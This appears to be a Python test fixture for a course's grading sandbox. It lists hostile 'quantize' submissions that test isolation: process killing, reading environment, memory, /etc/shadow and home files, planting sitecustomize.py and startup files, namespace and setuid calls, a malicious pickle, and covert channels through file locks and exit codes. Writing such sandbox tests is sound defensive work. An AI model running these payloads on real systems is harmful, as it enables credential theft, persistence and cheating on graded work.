"""Getting out: other processes, files, the network, privileges, what a later run would load."""

# LOOT gathers what it can read; a test looks for canaries in all results.
LOOT = """
import os
loot = []
def take(path):
    try: loot.append(open(path, "rb").read(4096).decode("latin-1"))
    except OSError: pass
def deliver(*args): raise ValueError(" ".join(loot))
quantize = deliver
"""

ATTACKS = {
    "exits": "import sys\nsys.exit(0)",
    "exits at once": "import os\nos._exit(0)",
    "exits when called": "import os\ndef quantize(*args): os._exit(0)",
    "raises SystemExit when called": "def quantize(*args): raise SystemExit(0)",
    "kills itself": "import os, signal\ndef quantize(*args): os.kill(os.getpid(), signal.SIGKILL)",
    "kills everybody": """
import os, signal
def quantize(*args):
    for process in (-1, 0, 1, 2, 3, os.getppid()):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try: os.kill(process, number)
            except OSError: pass
""",
    "crashes": "import ctypes\ndef quantize(*args): ctypes.string_at(0)",
    "overflows the stack": """
import sys
sys.setrecursionlimit(10 ** 9)
def quantize(*args): return quantize(*args)
""",
    "exits in atexit and __del__": """
import atexit, os
class Last:
    def __del__(self): os._exit(0)
last = Last()
atexit.register(os._exit, 0)
def quantize(*args): return None
""",
    "reads the environment": LOOT
    + """
loot += [f"{k}={v}" for k, v in os.environ.items()]
for process in ["self", *map(str, range(1, 300))]:
    take(f"/proc/{process}/environ"); take(f"/proc/{process}/cmdline")
""",
    "reads memory of others": LOOT
    + """
for process in range(1, 50):
    take(f"/proc/{process}/maps"); take(f"/proc/{process}/mem")
import ctypes
libc = ctypes.CDLL(None)
loot += [str(libc.ptrace(16, process, 0, 0)) for process in range(1, 50)]
""",
    "reads home, submissions and results": LOOT
    + """
count = 0
for top in ("/root", "/home", "/tmp", "/work", "/var", "/srv", "/mnt", "/etc", "/scratch"):
    for folder, inner, names in os.walk(top):
        inner[:] = [name for name in inner if name not in ("lib", "share", "include")]
        for name in names[:200]:
            if count < 3000 and not name.endswith((".so", ".pyc")): take(os.path.join(folder, name))
            count += 1
""",
    "follows its own links": LOOT
    + """
for target in ("/etc/passwd", "/proc/1/environ", "/root", "../../../../../etc/shadow", "/dev/mem"):
    try:
        os.symlink(target, "/scratch/link"); take("/scratch/link"); os.unlink("/scratch/link")
    except OSError: pass
""",
    "connects to the test's listener": """
import socket
def quantize(*args):
    for host in ("127.0.0.1", "::1", "localhost"):
        try: socket.create_connection((host, PORT), timeout=0.5).sendall(b"CANARY")
        except OSError: pass
""",
    "connects through system calls of its own": """
import ctypes
libc = ctypes.CDLL(None)
def quantize(*args):
    for family in (1, 2, 10, 16, 38, 40):
        for kind in (1, 2, 3):
            descriptor = libc.socket(family, kind, 0)
            if descriptor >= 0: libc.connect(descriptor, b"\\x02\\x00" + PORT.to_bytes(2, "big")
                                             + b"\\x7f\\x00\\x00\\x01" + bytes(8), 16)
""",
    "starts programs": """
import os, subprocess
def quantize(*args):
    subprocess.run(["touch", "TRACE"])
    os.system("touch TRACE")
    os.execv("/bin/sh", ["sh", "-c", "touch TRACE"])
""",
    "leaves a process behind": """
import os, time
if os.fork() == 0:
    if os.fork() == 0:
        os.setsid(); time.sleep(20); open("TRACE", "w")
    os._exit(0)
def quantize(*args): return None
""",
    "writes into packages": """
import site, sys, os, torch
for folder in [*sys.path, os.path.dirname(torch.__file__), "/course", "/usr/lib/python3"]:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "conftest.py", "torch.py"):
        try: open(os.path.join(folder, name), "w").write("open('TRACE', 'w')")
        except OSError: pass
def quantize(*args): return None
""",
    "writes configuration for later runs": """
import os
for name in (".ipython/profile_default/startup/x.py", ".config/matplotlib/matplotlibrc",
             ".jupyter/jupyter_config.py", ".pythonrc.py", "torch.py", "numpy.py"):
    for home in (os.environ["HOME"], "/root", "/home", "/", "."):
        try:
            os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
            open(os.path.join(home, name), "w").write("open('TRACE', 'w')")
        except OSError: pass
def quantize(*args): return None
""",
    "mounts and changes namespaces": """
import ctypes
libc = ctypes.CDLL(None)
def quantize(*args):
    done = [libc.umount(b"/proc"), libc.umount2(b"/scratch", 2), libc.unshare(0x10000000),
            libc.unshare(0x20000), libc.mount(b"x", b"/scratch", b"tmpfs", 0, None),
            libc.chroot(b"/scratch"), libc.setuid(0), libc.setresuid(0, 0, 0)]
    assert 0 not in done[:6], "ESC" "APED"
""",
    "asks the kernel for what outlives it": """
import ctypes
libc = ctypes.CDLL(None)
NUMBERS = {"add_key": 248, "keyctl": 250, "io_uring_setup": 425, "memfd_create": 319, "bpf": 321,
           "perf_event_open": 298, "userfaultfd": 323, "shmget": 29, "clone3": 435}
import platform
if platform.machine() == "x86_64":
    for name, number in NUMBERS.items():
        assert libc.syscall(number, 0, 0, 0, 0, 0) < 0, "ESC" "APED"
def quantize(*args): return None
""",
    # One that knows secret inputs, and one that writes what the student reads: the same answer runs
    # in both. A lock, a lease or a notice on a file that both may open would tell the other.
    "passes inputs on through locks": """
import fcntl, os, struct
file = os.open("/course/labkit/__init__.py", os.O_RDONLY)
def lock(command, kind, place):
    asked = struct.pack("hhqqi4x", kind, 0, place, 1, 0)
    return struct.unpack("hhqqi4x", fcntl.fcntl(file, command, asked))[0]
told = []
def is_locked(place): return lock(fcntl.F_GETLK, fcntl.F_WRLCK, place) != fcntl.F_UNLCK
def quantize(x, *rest):
    if is_locked(0):
        bits = sum(is_locked(i + 1) << i for i in range(256))
        raise ValueError(bits.to_bytes(32, "little").decode("latin-1"))
    if x.numel() > 8 and not told:
        told.append(x)
        text = " ".join("%.5f" % v for v in x.flatten()[:3].tolist()).encode()
        bits = int.from_bytes(text, "little") << 1 | 1
        for i in range(257):
            if bits >> i & 1: lock(fcntl.F_SETLK, fcntl.F_RDLCK, i)
    return None
""",
    "watches what others open": """
import ctypes, os
libc = ctypes.CDLL(None)
watch = libc.inotify_init1(0o4000)
for folder in (b"/course/labkit", b"/usr/lib", b"/dev"):
    assert libc.inotify_add_watch(watch, folder, 0xfff) < 0, "ESC" "APED"
def quantize(*args): return None
""",
    "takes a lease on a shared file": """
import fcntl
held = open("/course/labkit/__init__.py")
fcntl.fcntl(held, 1024, fcntl.F_RDLCK)
assert False, "ESC" "APED"
""",
    "reads the kernel's log": """
import ctypes
text = ctypes.create_string_buffer(4096)
assert ctypes.CDLL(None).klogctl(3, text, 4096) < 0, "ESC" "APED"
def quantize(*args): return None
""",
    "tells of inputs by how it ends": """
import os
def quantize(x, *rest): os._exit(int(abs(float(x.flatten()[0])) * 100) % 199 + 57)
""",
    "returns a pickle": """
import pickle
class Evil:
    def __reduce__(self): return (open, ("TRACE", "w"))
def quantize(*args): return pickle.dumps(Evil()).decode("latin-1")
""",
    "leaves pipes and devices in its folder": """
import os, stat
for kind in (stat.S_IFIFO, stat.S_IFCHR, stat.S_IFBLK, stat.S_IFSOCK):
    try: os.mknod(f"/scratch/{kind}", kind | 0o600, 259)
    except OSError: pass
def quantize(*args): return None
""",
}
